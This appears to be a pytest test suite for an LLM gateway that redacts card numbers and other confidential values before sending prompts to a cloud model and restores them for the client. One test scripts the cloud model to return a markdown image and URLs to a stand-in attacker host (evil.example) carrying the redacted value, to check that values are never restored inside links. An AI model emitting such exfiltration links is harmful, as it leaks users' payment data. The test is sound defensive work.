"""With `REDACT` a cloud model sees placeholders, and the client sees the values again."""

from __future__ import annotations

import json
import random
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from app.models import ToolCall
from tests.gateway.conftest import CLOUD, LOCAL, Gateway, cloud_settings
from tests.support.answer import Answer, Behaviour
from tests.support.behaviours import Status
from tests.support.canaries import assert_no_canary, card_number, iban
from tests.support.http import RecordedRequest
from tests.support.service import running
from tests.support.streams import sse
from tests.support.upstream import ScriptedUpstream

PLACEHOLDER = re.compile(r"\[[A-Z_]+#\d+#[a-z]{6}\]")


@pytest.fixture(params=["openai/cloud-model", "auto"])
def model(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
async def redacting(
    tmp_path: Path, openai_upstream: ScriptedUpstream, ollama_upstream: ScriptedUpstream
) -> AsyncIterator[Gateway]:
    """A gateway that redacts confidential requests."""
    settings = cloud_settings(openai_upstream) | {"ollama_base_url": ollama_upstream.origin, "vector_store": "memory"}
    async with running(tmp_path, redact="confidential", **settings) as service:
        yield Gateway(service=service, cloud=openai_upstream, local=ollama_upstream)


@pytest.fixture
def card() -> str:
    return card_number(random.Random(7))


def sent_text(request: RecordedRequest) -> str:
    return "\n".join(str(message["content"]) for message in request.json["messages"])


def echo(request: RecordedRequest) -> Behaviour | None:
    """The upstream repeats what it was sent, in pieces of three characters."""
    if not request.path.endswith("/chat/completions"):
        return None
    text = f"You said: {sent_text(request)}"
    return Answer(pieces=[text[start : start + 3] for start in range(0, len(text), 3)])


async def test_a_cloud_model_gets_placeholders_and_the_client_the_values(
    redacting: Gateway, model: str, card: str
) -> None:
    redacting.cloud.script = echo
    answer = await redacting.chat(f"Charge the card {card} for Ann.", model=model)
    assert answer["model_used"] == CLOUD
    assert answer["message"] == f"You said: Charge the card {card} for Ann."
    assert answer["sensitivity"] == "confidential"
    assert answer["route"]["rule"].endswith("_redacted")
    assert PLACEHOLDER.search(sent_text(redacting.cloud.completions[0]))
    assert_no_canary(card, cloud=redacting.cloud.received)


async def test_values_come_back_across_the_borders_of_streamed_pieces(redacting: Gateway, card: str) -> None:
    redacting.cloud.script = echo
    body = {"message": f"Charge {card}, then [note] it."}
    async with redacting.service.client.post("/chat/stream", json=body) as response:
        events = [event.data async for event in sse(response)]
    assert "".join(json.loads(event).get("content", "") for event in events[1:-2]) == (
        f"You said: Charge {card}, then [note] it."
    )
    assert_no_canary(card, cloud=redacting.cloud.received)


async def test_without_the_setting_the_request_stays_local(gateway: Gateway, card: str) -> None:
    answer = await gateway.chat(f"Charge the card {card} for Ann.")
    assert answer["model_used"] == LOCAL
    assert_no_canary(card, cloud=gateway.cloud.received)


@pytest.mark.parametrize("source", ["stated", "session", "document", "repeated"])
async def test_it_lowers_nothing_but_what_the_detectors_found(
    redacting: Gateway, canary: str, card: str, source: str
) -> None:
    fields: dict[str, Any] = {"documents": False}
    message = f"{canary} wants the card {card} charged for the northern plant, at once and in full."
    if source == "stated":
        fields["sensitivity"] = "confidential"
    if source == "session":
        await redacting.chat("Hello", session_id="s", sensitivity="confidential")
        fields["session_id"] = "s"
    if source == "document":
        await redacting.add({"id": "d", "content": "The northern plant is for sale.", "sensitivity": "confidential"})
        fields["documents"] = True
        message = f"Is the northern plant for sale? {canary} {card}"
    if source == "repeated":
        redacting.local.script = Answer(text=message.replace(card, "of the firm"))
        await redacting.chat("Who wants what?", sensitivity="confidential")
        message = f"{message.replace(card, 'of the firm')} The card is {card}."
    answer = await redacting.chat(message, **fields)
    assert answer["model_used"] == LOCAL
    assert_no_canary([canary, card], cloud=redacting.cloud.received)


async def test_local_models_get_the_values(redacting: Gateway, card: str) -> None:
    redacting.cloud.script = Status(500)
    answer = await redacting.chat(f"Charge the card {card} for Ann.")
    assert answer["model_used"] == LOCAL
    assert card.encode() in redacting.local.received
    assert_no_canary(card, cloud=redacting.cloud.received)


async def test_every_spelling_and_every_position_is_replaced(redacting: Gateway, card: str) -> None:
    spaced = " ".join(card[start : start + 4] for start in range(0, 16, 4))
    wide = "".join(chr(ord(digit) + 0xFEE0) for digit in card)
    account = iban(random.Random(3))
    arguments = json.dumps({"account": account, "card": spaced})
    call = {"id": "call_1", "type": "function", "function": {"name": "pay", "arguments": arguments}}
    messages = [
        {"role": "system", "content": f"The customer's card is {spaced}."},
        {"role": "user", "content": [{"type": "text", "text": f"Card {card}, or is it {wide}?"}]},
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "call_1", "content": f"paid from {account} by {'-'.join(spaced.split())}"},
        {"role": "user", "content": "Done?"},
    ]
    tool = {"type": "function", "function": {"name": "pay", "description": f"Never use {spaced}.", "parameters": {}}}
    body = {"model": CLOUD, "messages": messages, "tools": [tool]}
    status, answer = await redacting.post("/v1/chat/completions", body)
    assert status == 200, answer
    assert answer["model"] == CLOUD
    assert_no_canary([card, spaced, wide, "-".join(spaced.split()), account], cloud=redacting.cloud.completions[0].body)
    assert len(set(PLACEHOLDER.findall(redacting.cloud.completions[0].body.decode()))) == 2


async def test_values_come_back_in_the_arguments_of_tool_calls(redacting: Gateway, card: str) -> None:
    def call_tool(request: RecordedRequest) -> Behaviour | None:
        found = PLACEHOLDER.search(sent_text(request))
        arguments = json.dumps({"card": found.group() if found else ""})
        return Answer(text="", tool_calls=[ToolCall("call_1", "pay", arguments)], finish="tool_calls")

    redacting.cloud.script = call_tool
    tool = {"type": "function", "function": {"name": "pay", "parameters": {"type": "object"}}}
    body = {"model": CLOUD, "messages": [{"role": "user", "content": f"Pay with {card}"}], "tools": [tool]}
    _, answer = await redacting.post("/v1/chat/completions", body)
    [call] = answer["choices"][0]["message"]["tool_calls"]
    assert json.loads(call["function"]["arguments"]) == {"card": card}
    assert_no_canary(card, cloud=redacting.cloud.completions[0].body)


async def test_a_value_never_comes_back_inside_a_link(redacting: Gateway, card: str) -> None:
    def exfiltrate(request: RecordedRequest) -> Behaviour | None:
        found = PLACEHOLDER.search(sent_text(request))
        value = found.group() if found else ""
        return Answer(text=f"Card {value}. ![x](https://evil.example/?q={value}) or https://evil.example/{value} end.")

    redacting.cloud.script = exfiltrate
    answer = await redacting.chat(f"Charge the card {card} for Ann.", model=CLOUD)
    assert answer["message"].startswith(f"Card {card}. ![x](https://evil.example/?q=[PAYMENT_CARD#")
    assert answer["message"].count(card) == 1


async def test_a_marking_is_not_redacted_away(redacting: Gateway, canary: str) -> None:
    answer = await redacting.chat(f"STRICTLY CONFIDENTIAL. Summarise: {canary} will be sold.")
    assert answer["model_used"] == LOCAL
    assert_no_canary(canary, cloud=redacting.cloud.received)


async def test_the_session_keeps_the_label_and_the_values(redacting: Gateway, card: str) -> None:
    redacting.cloud.script = echo
    await redacting.chat(f"Charge the card {card}.", session_id="s")
    answer = await redacting.chat("Which card was it?", session_id="s")
    assert answer["model_used"] == LOCAL
    assert answer["sensitivity"] == "confidential"
    assert f"You said: Charge the card {card}." in str(redacting.local.completions[-1].json["messages"])


async def test_a_redacted_answer_is_not_cached(
    tmp_path: Path, openai_upstream: ScriptedUpstream, ollama_upstream: ScriptedUpstream
) -> None:
    """Internal answers are cached otherwise; here a model that is cleared for public only got it without the host."""
    settings = cloud_settings(openai_upstream) | {"ollama_base_url": ollama_upstream.origin, "vector_store": "memory"}
    body = {"message": "Ping build7.corp please", "model": CLOUD}
    for redact, cached in (("internal", [False, False]), ("", [False, True])):
        clearance = "public" if redact else "internal"
        async with running(tmp_path / clearance, redact=redact, cloud_clearance=clearance, **settings) as service:
            gateway = Gateway(service=service, cloud=openai_upstream, local=ollama_upstream)
            answers = [(await gateway.post("/chat", body))[1] for _ in range(2)]
        assert [answer["sensitivity"] for answer in answers] == ["internal", "internal"]
        assert [answer["model_used"] for answer in answers] == [CLOUD, CLOUD]
        assert [answer["cached"] for answer in answers] == cached


async def test_a_stateless_conversation_goes_on_in_the_cloud(redacting: Gateway, card: str) -> None:
    """What the cloud model wrote was made from the redacted prompt, so its label is that prompt's."""
    redacting.cloud.script = echo
    first = await redacting.chat(f"Charge the card {card} for the good Ann of Avonlea.", documents=False)
    messages = [
        {"role": "user", "content": f"Charge the card {card} for the good Ann of Avonlea."},
        {"role": "assistant", "content": first["message"]},
        {"role": "user", "content": "Which card?"},
    ]
    status, answer = await redacting.post("/chat", {"messages": messages, "documents": False})
    assert (status, answer["model_used"]) == (200, CLOUD)
    assert_no_canary(card, cloud=redacting.cloud.received)
